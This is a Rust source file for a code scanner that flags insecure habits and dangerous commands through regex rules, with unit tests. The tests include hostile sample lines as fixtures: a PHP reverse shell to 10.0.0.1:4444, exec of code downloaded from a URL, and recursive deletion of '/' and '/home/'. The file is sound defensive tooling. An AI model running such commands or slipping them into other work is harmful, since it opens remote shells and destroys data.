//! Code that is insecure by habit, and code that does what a dangerous command does.

use std::ops::Range;
use std::sync::LazyLock;

use regex_automata::meta::Regex;
use sallyport_policy::Severity;

use Severity::{Critical, High, Low, Medium};

/// The rules here that speak of habits; the others say what a command would do.
pub(super) const HABITS: &[&str] = &[
    "tls_verification_off",
    "weak_password_hash",
    "sql_by_concatenation",
    "debug_on",
    "unsafe_deserialisation",
    "shell_with_input",
    "runs_user_input",
    "world_writable",
    "weak_cipher",
    "predictable_token",
];

const PATTERNS: &[(&str, Severity, &str)] = &[
    (
        "tls_verification_off",
        Medium,
        r"\bverify\s*=\s*False\b|rejectUnauthorized[\x22']?\s*:\s*false|NODE_TLS_REJECT_UNAUTHORIZED[\x22'\]]*\s*[=:]\s*[\x22']?0|InsecureSkipVerify\s*:\s*true|CURLOPT_SSL_VERIFY(?:PEER|HOST)\s*,\s*(?:0|false)|_create_unverified_context|verify_mode\s*=\s*(?:ssl\.CERT_NONE|OpenSSL::SSL::VERIFY_NONE)|danger_accept_invalid_(?:certs|hostnames)\(true\)|ServerCertificate(?:Custom)?ValidationCallback\s*[+]?=[^;]*true|check_hostname\s*=\s*False|TrustAllCerts|ALLOW_ALL_HOSTNAME_VERIFIER",
    ),
    (
        "weak_password_hash",
        Medium,
        r"(?i:\b(?:md5|sha1)\s*\(\s*[^)\n]{0,40}passw|hashlib\.(?:md5|sha1)\([^)\n]{0,40}passw|createHash\(\s*['\x22](?:md5|sha1)['\x22]\s*\)\.update\(\s*[^)\n]{0,20}passw|passw\w*\s*=\s*[^=\n]{0,20}\b(?:md5|sha1|hashlib\.md5|hashlib\.sha1)\()",
    ),
    (
        "sql_by_concatenation",
        Medium,
        r"(?i:(?:execute|query|raw|prepare|executemany|executeQuery)\s*\(\s*(?:f\x22[^\x22\n]*\b(?:select|insert\s+into|update|delete\s+from)\b[^\x22\n]*\{|f'[^'\n]*\b(?:select|insert\s+into|update|delete\s+from)\b[^'\n]*\{|[\x22'][^\x22'\n]*\b(?:select|insert\s+into|update|delete\s+from)\b[^\n]{0,200}?(?:[\x22']\s*\+\s*\w|[\x22']\s*%\s*[\w(]|[\x22']\.format\()|`[^`\n]*\b(?:select|insert\s+into|update|delete\s+from)\b[^`\n]*\$\{))|(?i:[\x22'](?:select\s[^\x22'\n]*\sfrom|insert\s+into|update\s[^\x22'\n]*\sset|delete\s+from)\s[^\n]{0,200}?=\s*'?[\x22']\s*(?:\+|\.)\s*\$?\w)",
    ),
    ("debug_on", Low, r"\.run\([^)\n]*debug\s*=\s*True|^\s*DEBUG\s*=\s*True\b|app\.debug\s*=\s*True"),
    (
        "unsafe_deserialisation",
        Medium,
        r"\bpickle\.loads?\(\s*(?:request|req|data|body|sock|conn|base64|payload|message|response|user|input)|\byaml\.load\((?:[^)\n]*)\)|\bunserialize\(\s*\$_|\bmarshal\.loads\(|\bObjectInputStream\([^)\n]*(?:socket|request|getInputStream)|\bjsonpickle\.decode\(\s*request|\bdill\.loads\(",
    ),
    (
        "runs_downloaded_code",
        Critical,
        r"\b(?:eval|exec|Function)\s*\(\s*(?:await\s+)?\(?(?:await\s+)?(?:requests\.get|urllib\.request\.urlopen|urlopen|httpx\.get|fetch|axios\.get|\w+\.get\(\s*[\x22']https?:)|\bsubprocess\.\w+\(\s*requests\.get|require\(\s*[\x22']child_process[\x22']\s*\)\.exec(?:Sync)?\(\s*[\x22'`](?:curl|wget)[^\n]*\|\s*(?:ba)?sh",
    ),
    (
        "runs_encoded_code",
        High,
        r"\b(?:eval|exec)\s*\(\s*(?:compile\(\s*)?(?:base64\.)?(?:b64decode|a2b_base64|atob|base64_decode|zlib\.decompress|codecs\.decode|marshal\.loads|Buffer\.from)\s*\(|\bexec\(\s*__import__\(\s*[\x22'](?:base64|zlib|codecs|marshal)",
    ),
    (
        "shell_with_input",
        Medium,
        r"\bsubprocess\.\w+\([^\n]*shell\s*=\s*True|\bos\.(?:system|popen)\(\s*(?:f[\x22']|[^)\x22'\n]*[\x22'][^\x22'\n]*[\x22']\s*[+%]|[^)\n]*\.format\(|[a-z_]\w*\s*\))|child_process[\x22']?\)?\.?exec\(\s*`[^`]*\$\{|\bRuntime\.getRuntime\(\)\.exec\([^)\n]*\+|\bshell_exec\(\s*\$|\bsystem\(\s*\$_(?:GET|POST|REQUEST)|\bpassthru\(\s*\$",
    ),
    (
        "runs_user_input",
        High,
        r"\beval\(\s*(?:request|req|input|params|\$_(?:GET|POST|REQUEST)|window\.location|location\.|document\.URL|sys\.argv)|\bexec\(\s*(?:request|req\.|input\(|\$_(?:GET|POST|REQUEST))|new Function\(\s*(?:req|request|params|location)",
    ),
    (
        "world_writable",
        Medium,
        r"\bchmod\([^)\n]*0?o?777\)|\bos\.umask\(\s*0(?:o?0{0,3})?\s*\)|0o666\)|Permissions::from_mode\(0o777\)|S_IRWXO",
    ),
    (
        "weak_cipher",
        Low,
        r"\bMODE_ECB\b|\bDES3?\.new\(|Cipher\.getInstance\(\s*[\x22'](?:DES|RC4|AES/ECB)|createCipher\(\s*[\x22']|\bARC4\.new\(|\bBlowfish\.new\(",
    ),
    (
        "predictable_token",
        Low,
        r"(?i:(?:token|secret|session_?id|password|api_?key|otp|nonce)\w*\s*[:=]\s*[^\n=]{0,40}\b(?:Math\.random\(\)|random\.(?:random|randint|choice|choices)\(|rand\(\)|mt_rand\())",
    ),
    (
        "destroys_files",
        Critical,
        r"\b(?:shutil\.rmtree|fs\.rm(?:dir)?Sync|fs\.rm|rimraf(?:\.sync)?|FileUtils\.rm_rf|os\.RemoveAll|fs::remove_dir_all|Deno\.remove|File\.deleteRecursively)\(\s*(?:[\x22'](?:/|~|/home/?|/etc/?|/usr/?|/var/?|C:\\\\?|/\*)[\x22']|os\.path\.expanduser\(\s*[\x22']~[\x22']\s*\)|os\.homedir\(\)|Path\.home\(\)|os\.environ\[[\x22']HOME[\x22']\])",
    ),
    (
        "destroys_files",
        Critical,
        r"\b(?:os\.system|os\.popen|subprocess\.\w+|exec(?:Sync)?|execSync|system|shell_exec|popen|Command::new|spawn|check_call)\(\s*\[?[^\n]{0,40}?[\x22'`]?(?:sudo\s+)?rm[\x22']?\s*,?\s*[\x22']?-[a-zA-Z]*r[a-zA-Z]*[\x22']?\s*,?\s*[\x22']?(?:/[\x22'\s*]|~|\$HOME|/(?:etc|usr|home|var|bin|boot)[\x22'/\s*])",
    ),
    (
        "downloads_and_runs",
        Critical,
        r"\b(?:os\.system|os\.popen|subprocess\.\w+|exec(?:Sync)?|execSync|system|shell_exec|popen|check_call)\(\s*\[?[^\n]{0,60}?(?:curl|wget)\s[^\n]{0,200}?\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b",
    ),
    (
        "reverse_shell",
        Critical,
        r"socket\.socket\([^\n]*(?:os\.dup2|pty\.spawn|subprocess)|net\.(?:connect|Socket)\([^\n]*(?:/bin/sh|cmd\.exe|spawn)|fsockopen\([^\n]*(?:/bin/sh|exec|proc_open)|Net\.Sockets\.TCPClient",
    ),
    (
        "destroys_data",
        High,
        r"(?i:[\x22'`;]\s*drop\s+(?:table|database|schema)\s|^\s*drop\s+(?:table|database|schema)\s|^\s*truncate\s+table\s|^\s*delete\s+from\s+\w+\s*;)",
    ),
];

static ALL: LazyLock<Vec<Option<Regex>>> = LazyLock::new(|| {
    PATTERNS.iter().map(|(_, _, pattern)| Regex::new(&format!("(?:{pattern})")).ok()).collect()
});

/// Which patterns can be in a line at all: one pass over it instead of seventeen.
static ANY: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:verify|unverified|sockopen|unauthorized|trustall|allow_all_host|invalid_|check_hostname|certificatevalid|certificatecustom|md5|sha1|select|insert\s|update\s|delete\s|debug|loads?\(|unserialize|objectinput|jsonpickle|eval|exec|function\s*\(|os\.(?:system|popen|umask|removeall)|subprocess|shell_exec|passthru|system\(|chmod|0o666|from_mode|s_irwxo|ecb|des3?\.|cipher|arc4|blowfish|random|rand\(|rmtree|rm(?:dir)?sync|fs\.rm|rimraf|rm_rf|remove|deleterecursively|popen|command::new|spawn|check_call|socket|net\.|drop\s|truncate\s)").ok()
});

pub(super) fn judge(line: &str) -> Vec<(&'static str, Severity, Range<usize>)> {
    if !ANY.as_ref().is_some_and(|any| any.is_match(line)) {
        return Vec::new();
    }
    let start = line.trim_start();
    // Comments say, they don't do.
    if start.starts_with('#') && !start.starts_with("#!")
        || start.starts_with("//")
        || start.starts_with("* ")
    {
        return Vec::new();
    }
    PATTERNS
        .iter()
        .zip(&*ALL)
        .filter_map(|((rule, severity, _), pattern)| {
            let hit = pattern.as_ref()?.find(line)?;
            let words = line.get(hit.range())?;
            // A loader that is named is a safe one, or the reader's to judge.
            let safe =
                *rule == "unsafe_deserialisation" && words.contains("yaml.load") && words.contains("oader");
            (!safe).then(|| (*rule, *severity, hit.range()))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(line: &str) -> Vec<&'static str> {
        judge(line).into_iter().map(|(rule, ..)| rule).collect()
    }

    #[test]
    fn the_patterns_compile() {
        assert!(ALL.iter().all(Option::is_some) && ANY.is_some());
    }

    #[test]
    fn habits_are_found_where_they_stand() {
        for (line, rule) in [
            ("r = requests.get(url, verify=False)", "tls_verification_off"),
            ("const agent = new https.Agent({ rejectUnauthorized: false })", "tls_verification_off"),
            ("context = ssl._create_unverified_context()", "tls_verification_off"),
            ("$s=fsockopen('10.0.0.1',4444);$p=proc_open('/bin/sh -i',$d,$s);", "reverse_shell"),
            ("h = hashlib.md5(password.encode()).hexdigest()", "weak_password_hash"),
            ("cur.execute(f\"SELECT * FROM users WHERE name = '{name}'\")", "sql_by_concatenation"),
            ("db.query(\"SELECT * FROM t WHERE id = \" + id)", "sql_by_concatenation"),
            ("app.run(host='0.0.0.0', debug=True)", "debug_on"),
            ("obj = pickle.loads(request.data)", "unsafe_deserialisation"),
            ("cfg = yaml.load(f)", "unsafe_deserialisation"),
            ("exec(requests.get('https://x.example/a.py').text)", "runs_downloaded_code"),
            ("exec(base64.b64decode('aW1wb3J0IG9z'))", "runs_encoded_code"),
            ("subprocess.run(cmd, shell=True)", "shell_with_input"),
            ("eval(request.args['x'])", "runs_user_input"),
            ("os.chmod(path, 0o777)", "world_writable"),
            ("cipher = AES.new(key, AES.MODE_ECB)", "weak_cipher"),
            ("token = str(random.randint(0, 9999))", "predictable_token"),
            ("shutil.rmtree('/')", "destroys_files"),
            ("os.system('rm -rf /home/')", "destroys_files"),
            ("DROP TABLE users;", "destroys_data"),
        ] {
            assert!(rules(line).contains(&rule), "{line}: {:?}", rules(line));
        }
    }

    #[test]
    fn every_habit_has_a_pattern() {
        assert!(HABITS.iter().all(|habit| PATTERNS.iter().any(|(rule, ..)| rule == habit)));
    }

    #[test]
    fn safe_code_is_not() {
        for line in [
            "r = requests.get(url, verify=True)",
            "cfg = yaml.load(f, Loader=yaml.SafeLoader)",
            "cur.execute('SELECT * FROM users WHERE id = %s', (id,))",
            "subprocess.run(['ls', '-l'], check=True)",
            "# eval(request.args['x']) would be bad",
            "shutil.rmtree(build_dir)",
            "model.eval()",
            "let random = rng.random();",
            "pickle.dump(model, f)",
        ] {
            assert_eq!(rules(line), Vec::<&str>::new(), "{line}");
        }
    }
}
